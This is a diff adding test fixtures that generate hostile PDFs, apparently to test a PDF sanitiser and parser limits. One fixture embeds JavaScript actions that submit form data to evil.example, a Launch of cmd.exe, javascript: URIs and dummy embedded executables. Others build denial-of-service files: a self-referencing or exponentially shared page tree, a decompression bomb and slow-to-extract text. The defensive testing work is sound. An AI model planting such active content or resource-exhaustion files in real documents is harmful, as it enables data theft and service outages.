@@ -21,6 +21,7 @@ from pypdf.generic import (
     NameObject,
     NumberObject,
     RectangleObject,
+    TextStringObject,
 )
 from reportlab.lib.pagesizes import A4, landscape
 from reportlab.pdfgen import canvas
@@ -241,3 +242,299 @@ def corrupt_pdf() -> bytes:
 def not_pdf() -> bytes:
     """A Word-like binary (ZIP container signature) - definitely not a PDF."""
     return b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200 + b"word/document.xml"
+
+
+# ---------------------------------------------------------------------------
+# Hostile documents: active content
+# ---------------------------------------------------------------------------
+
+#: Links and texts :func:`active_content_pdf` carries that must survive sanitising.
+SAFE_LINK = "https://www.bps.go.id/id/publication"
+SAFE_MAIL = "mailto:perpustakaan@bps.go.id"
+OUTLINE_TITLES = ("Bab 1 Pendahuluan", "Bab 2 Kependudukan", "Situs BPS")
+DOCUMENT_TITLE = "Kabupaten Majene Dalam Angka 2024"
+
+
+def _js(code: str) -> DictionaryObject:
+    return DictionaryObject({
+        NameObject("/Type"): NameObject("/Action"),
+        NameObject("/S"): NameObject("/JavaScript"),
+        NameObject("/JS"): TextStringObject(code),
+    })
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _annotation(subtype: str, y: int, **entries) -> DictionaryObject:
+    annotation = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"),
+        NameObject("/Subtype"): NameObject(subtype),
+        NameObject("/Rect"): RectangleObject([50, y, 250, y + 12]),
+        NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
+    })
+    for key, value in entries.items():
+        annotation[NameObject(f"/{key}")] = value
+    return annotation
+
+
+def _embedded_file(writer: PdfWriter, name: str) -> IndirectObject:
+    payload = DecodedStreamObject()
+    payload.set_data(b"MZ\x90\x00 not really a program")
+    payload[NameObject("/Type")] = NameObject("/EmbeddedFile")
+    return writer._add_object(DictionaryObject({
+        NameObject("/Type"): NameObject("/Filespec"),
+        NameObject("/F"): TextStringObject(name),
+        NameObject("/UF"): TextStringObject(name),
+        NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)}),
+    }))
+
+
+def active_content_pdf() -> bytes:
+    """A two-page report (see :func:`report_pdf`) armed with every kind of active content.
+
+    Catalog: JavaScript ``/OpenAction``, ``/AA``, ``/Names /JavaScript`` (the
+    script in a stream) and ``/Names /EmbeddedFiles``, an AcroForm with XFA
+    and a text field whose widget has keystroke JavaScript.  Page 1: ``/AA``
+    and links of every kind: safe (https, mailto, GoTo action, /Dest, a GoTo
+    whose ``/Next`` runs JavaScript) and unsafe (``javascript:``, a
+    ``java<TAB>script:`` spelling, ``file:``, Launch, SubmitForm, ImportData,
+    GoToR, GoToE), a file-attachment and a RichMedia annotation.  Outline: a
+    GoTo entry, an entry running JavaScript and an https entry.  Metadata
+    title :data:`DOCUMENT_TITLE`.
+    """
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(report_pdf(2))))
+    root = writer.root_object
+    first, second = writer.pages[0], writer.pages[1]
+    to_second = ArrayObject([second.indirect_reference, NameObject("/Fit")])
+
+    root[NameObject("/OpenAction")] = writer._add_object(_js("app.alert('dibuka')"))
+    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js("app.alert('ditutup')")})
+    script = DecodedStreamObject()
+    script.set_data(b"this.submitForm('https://evil.example/steal');")
+    root[NameObject("/Names")] = DictionaryObject({
+        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([
+            TextStringObject("init"),
+            writer._add_object(_action("/JavaScript", JS=writer._add_object(script))),
+        ])}),
+        NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): ArrayObject([
+            TextStringObject("payload.exe"), _embedded_file(writer, "payload.exe"),
+        ])}),
+    })
+    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('halaman')")})
+
+    links = [
+        _action("/URI", URI=TextStringObject(SAFE_LINK)),
+        _action("/URI", URI=TextStringObject(SAFE_MAIL)),
+        _action("/GoTo", D=to_second),
+        _action("/GoTo", D=to_second, Next=_js("app.alert('berikutnya')")),
+        _action("/URI", URI=TextStringObject("javascript:app.alert(document.cookie)")),
+        _action("/URI", URI=TextStringObject(" java\tscript:alert(2)")),
+        _action("/URI", URI=TextStringObject("file:///C:/Windows/System32/calc.exe")),
+        _action("/Launch", F=TextStringObject("cmd.exe"),
+                Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")})),
+        _action("/SubmitForm", F=DictionaryObject({
+            NameObject("/FS"): NameObject("/URL"),
+            NameObject("/F"): TextStringObject("https://evil.example/collect"),
+        })),
+        _action("/ImportData", F=TextStringObject("data.fdf")),
+        _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
+        _action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C"),
+                                             NameObject("/N"): TextStringObject("payload.pdf")})),
+    ]
+    annotations = [
+        writer._add_object(_annotation("/Link", 700 - 14 * i, A=action)) for i, action in enumerate(links)
+    ]
+    annotations.append(writer._add_object(_annotation("/Link", 500, Dest=to_second)))
+    annotations.append(writer._add_object(_annotation(
+        "/FileAttachment", 480, FS=_embedded_file(writer, "lampiran.exe"), Contents=TextStringObject("Lampiran"),
+    )))
+    annotations.append(writer._add_object(_annotation(
+        "/RichMedia", 460, RichMediaContent=DictionaryObject({
+            NameObject("/Assets"): DictionaryObject({NameObject("/Names"): ArrayObject([
+                TextStringObject("movie.swf"), _embedded_file(writer, "movie.swf"),
+            ])}),
+        }),
+    )))
+    field = writer._add_object(_annotation(
+        "/Widget", 440, FT=NameObject("/Tx"), T=TextStringObject("nama"),
+        AA=DictionaryObject({NameObject("/K"): _js("event.value = 'x'")}),
+        P=first.indirect_reference,
+    ))
+    annotations.append(field)
+    first[NameObject("/Annots")] = ArrayObject(annotations)
+    xfa = DecodedStreamObject()
+    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
+    root[NameObject("/AcroForm")] = DictionaryObject({
+        NameObject("/Fields"): ArrayObject([field]),
+        NameObject("/XFA"): writer._add_object(xfa),
+    })
+
+    outline = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Outlines")}))
+    items = [
+        DictionaryObject({NameObject("/Dest"): to_second}),
+        DictionaryObject({NameObject("/A"): _js("app.launchURL('https://evil.example')")}),
+        DictionaryObject({NameObject("/A"): _action("/URI", URI=TextStringObject("https://www.bps.go.id/"))}),
+    ]
+    refs = [writer._add_object(item) for item in items]
+    for index, (item, title) in enumerate(zip(items, OUTLINE_TITLES)):
+        item[NameObject("/Title")] = TextStringObject(title)
+        item[NameObject("/Parent")] = outline
+        if index:
+            item[NameObject("/Prev")] = refs[index - 1]
+        if index < len(refs) - 1:
+            item[NameObject("/Next")] = refs[index + 1]
+    outline_dict = outline.get_object()
+    outline_dict[NameObject("/First")] = refs[0]
+    outline_dict[NameObject("/Last")] = refs[-1]
+    outline_dict[NameObject("/Count")] = NumberObject(len(refs))
+    root[NameObject("/Outlines")] = outline
+    writer.add_metadata({"/Title": DOCUMENT_TITLE})
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+# ---------------------------------------------------------------------------
+# Hostile documents: cost
+# ---------------------------------------------------------------------------
+
+
+def many_pages_pdf(pages: int) -> bytes:
+    """*pages* distinct, nearly empty pages sharing one content stream (about 100 bytes a page)."""
+    writer = PdfWriter()
+    resources = writer._add_object(DictionaryObject({
+        NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica(writer)}),
+    }))
+    content = _stream(writer, _text(700, "Halaman tabel"))
+    page_list = [
+        DictionaryObject({
+            NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842]),
+            NameObject("/Resources"): resources,
+            NameObject("/Contents"): content,
+        })
+        for _ in range(pages)
+    ]
+    return _assemble(writer, page_list)
+
+
+def _single_page(writer: PdfWriter, text: str = "Satu halaman") -> DictionaryObject:
+    return DictionaryObject({
+        NameObject("/Type"): NameObject("/Page"),
+        NameObject("/MediaBox"): RectangleObject([0, 0, 595, 842]),
+        NameObject("/Resources"): DictionaryObject({
+            NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica(writer)}),
+        }),
+        NameObject("/Contents"): _stream(writer, _text(700, text)),
+    })
+
+
+def _write(writer: PdfWriter) -> bytes:
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def huge_count_pdf(count: int = 2_147_483_647) -> bytes:
+    """One real page under a root /Pages node whose /Count claims *count*."""
+    writer = PdfWriter()
+    page = writer._add_object(_single_page(writer))
+    pages_node = writer.root_object["/Pages"]
+    page.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
+    pages_node[NameObject("/Kids")] = ArrayObject([page])
+    pages_node[NameObject("/Count")] = NumberObject(count)
+    return _write(writer)
+
+
+def shared_subtree_pdf(levels: int = 40) -> bytes:
+    """A page tree of *levels* /Pages nodes, each listing the next one twice:
+    2**levels pages from a file of a few kilobytes (a "billion laughs" page tree)."""
+    writer = PdfWriter()
+    pages_node = writer.root_object["/Pages"]
+    leaf = writer._add_object(_single_page(writer))
+    below = leaf
+    for _ in range(levels):
+        node = writer._add_object(DictionaryObject({
+            NameObject("/Type"): NameObject("/Pages"),
+            NameObject("/Kids"): ArrayObject([below, below]),
+        }))
+        below.get_object()[NameObject("/Parent")] = node
+        below = node
+    pages_node[NameObject("/Kids")] = ArrayObject([below])
+    pages_node[NameObject("/Count")] = NumberObject(2 ** 31 - 1)
+    below.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
+    return _write(writer)
+
+
+def deep_page_tree_pdf(depth: int = 5000) -> bytes:
+    """One page at the bottom of a chain of *depth* nested /Pages nodes."""
+    writer = PdfWriter()
+    pages_node = writer.root_object["/Pages"]
+    below = writer._add_object(_single_page(writer))
+    for _ in range(depth):
+        node = writer._add_object(DictionaryObject({
+            NameObject("/Type"): NameObject("/Pages"),
+            NameObject("/Kids"): ArrayObject([below]),
+            NameObject("/Count"): NumberObject(1),
+        }))
+        below.get_object()[NameObject("/Parent")] = node
+        below = node
+    pages_node[NameObject("/Kids")] = ArrayObject([below])
+    pages_node[NameObject("/Count")] = NumberObject(1)
+    below.get_object()[NameObject("/Parent")] = pages_node.indirect_reference
+    return _write(writer)
+
+
+def page_tree_loop_pdf(direct: bool = True) -> bytes:
+    """A page tree that refers back to itself: the root /Pages node lists a page
+    and itself (*direct*), or a child node that lists the root again."""
+    writer = PdfWriter()
+    pages_node = writer.root_object["/Pages"]
+    pages_ref = pages_node.indirect_reference
+    page = writer._add_object(_single_page(writer))
+    page.get_object()[NameObject("/Parent")] = pages_ref
+    if direct:
+        pages_node[NameObject("/Kids")] = ArrayObject([page, pages_ref])
+    else:
+        child = writer._add_object(DictionaryObject({
+            NameObject("/Type"): NameObject("/Pages"),
+            NameObject("/Kids"): ArrayObject([pages_ref]),
+            NameObject("/Parent"): pages_ref,
+            NameObject("/Count"): NumberObject(1),
+        }))
+        pages_node[NameObject("/Kids")] = ArrayObject([page, child])
+    pages_node[NameObject("/Count")] = NumberObject(2)
+    return _write(writer)
+
+
+def _compressed_page(writer: PdfWriter, content: bytes) -> DictionaryObject:
+    stream = DecodedStreamObject()
+    stream.set_data(content)
+    page = _single_page(writer, "Halaman berat")
+    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode(level=9))
+    return page
+
+
+def slow_text_pdf(pages: int = 20, operators: int = 100_000) -> bytes:
+    """*pages* pages sharing one compressed content stream of *operators* empty
+    text-showing operators (``() Tj``): about 3 KB that keep pypdf's text
+    extraction busy for seconds a page, with no text to stop it early."""
+    writer = PdfWriter()
+    page = _compressed_page(writer, b"BT /F1 12 Tf\n" + b"() Tj\n" * operators + b"ET\n")
+    shared = page.raw_get("/Contents")
+    page_list = [page]
+    for _ in range(pages - 1):
+        other = _single_page(writer, "Halaman berat")
+        other[NameObject("/Contents")] = shared
+        page_list.append(other)
+    return _assemble(writer, page_list)
+
+
+def memory_hungry_pdf(megabytes: int = 70) -> bytes:
+    """One page whose content stream inflates from about 70 KB to *megabytes* MB."""
+    writer = PdfWriter()
+    return _assemble(writer, [_compressed_page(writer, b" " * (megabytes * 1024 * 1024))])
